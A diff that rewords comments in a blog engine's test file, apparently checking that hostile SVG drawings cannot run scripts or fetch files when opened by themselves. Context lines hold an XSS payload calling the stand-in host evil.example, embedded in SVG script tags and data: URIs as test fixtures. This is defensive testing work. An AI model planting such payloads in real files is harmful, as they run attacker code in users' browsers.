@@ -33,7 +33,7 @@ const steal = "fetch('https://evil.example/x');alert(1)"
 const svg = (inside: string, attributes = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30"${attributes}>${inside}</svg>`
 
-/** Drawings that do something when they are opened by themselves. */
+/** SVG files that run a script or load a file when they are opened by themselves. */
 const hostile: Record<string, string> = {
   script: svg(`<script>${steal}</script>`),
   'script by address': svg(`<script xlink:href="data:text/javascript,${encodeURIComponent(steal)}"/>`),
@@ -442,7 +442,7 @@ test('what a link of the file system leads to decides whether it is served or co
     ].sort(),
   )
 
-  // A draft by another name is a draft; a picture beside one is shown to whoever has its path, by a link as by itself.
+  // A symlink to a draft is a draft too. Any post may show a picture beside a draft, by its path or through a symlink.
   for (const name of Object.keys(links))
     if (!/^(again\.md|beside\.svg)$/.test(name)) rmSync(path.join(blog.content, 'posts', name))
   for (const name of ['posts/code.mdx', 'posts/nested.mdx']) rmSync(path.join(blog.content, name))
@@ -582,7 +582,7 @@ test('pictures of every kind get what they need, and no more', async ({ blog }) 
   const text = html('a')
   const tag = (alt: string) => new RegExp(`<img[^>]*alt="${alt}"[^>]*>`).exec(text)?.[0] ?? ''
   const figure = (alt: string) => text.split(/(?=<figure)/).find((one) => one.includes(`"${alt}"`)) ?? ''
-  // Turned the right way up; its average colour is behind it while it comes.
+  // The picture is turned the right way up, and its average colour is the background while the file loads.
   expect(tag('Turned')).toMatch(/src="\/media\/\w{12}\/turned\.jpg".* width="40" height="60" class="s\w+"/)
   expect(tag('Clear')).not.toContain('class=')
   expect(tag('Clear')).toContain('clear.png"')
@@ -661,7 +661,7 @@ test('a drawing keeps its shapes, its size and its own colours', async () => {
   expect(bomb.length).toBeLessThan(10_000)
 })
 
-/** In a sandbox no timer runs, ours neither: a few rounds through the browser, then. */
+/** No timer runs in a sandboxed page, so this waits for a few calls into the browser instead. */
 const settled = async (page: Page) => {
   for (let round = 0; round < 5; round++) {
     await page.mouse.move(6, 6 + round)
@@ -669,7 +669,7 @@ const settled = async (page: Page) => {
   }
 }
 
-/** How often something ran or was fetched while drawings were open by themselves. */
+/** Opens each drawing by itself. @returns the names of those that ran a script or requested a file. */
 async function executions(page: Page, addresses: string[]): Promise<string[]> {
   const seen: string[] = []
   let now = ''
@@ -713,7 +713,8 @@ test('of hostile drawings nothing runs, made safe or not, when they are opened b
   expect(await executions(page, addresses)).toEqual([])
   await server.stop()
 
-  // As they are: the answer's policy alone keeps them quiet. Without it they run, so that the silence means something.
+  // Now the drawings are served unchanged, and only the policy of the answer can stop them. Without the policy they
+  // run, which shows that this test can fail.
   let hasPolicy = true
   const bare = createServer(async (request, response) => {
     const file = decodeURIComponent((request.url ?? '').slice(1))
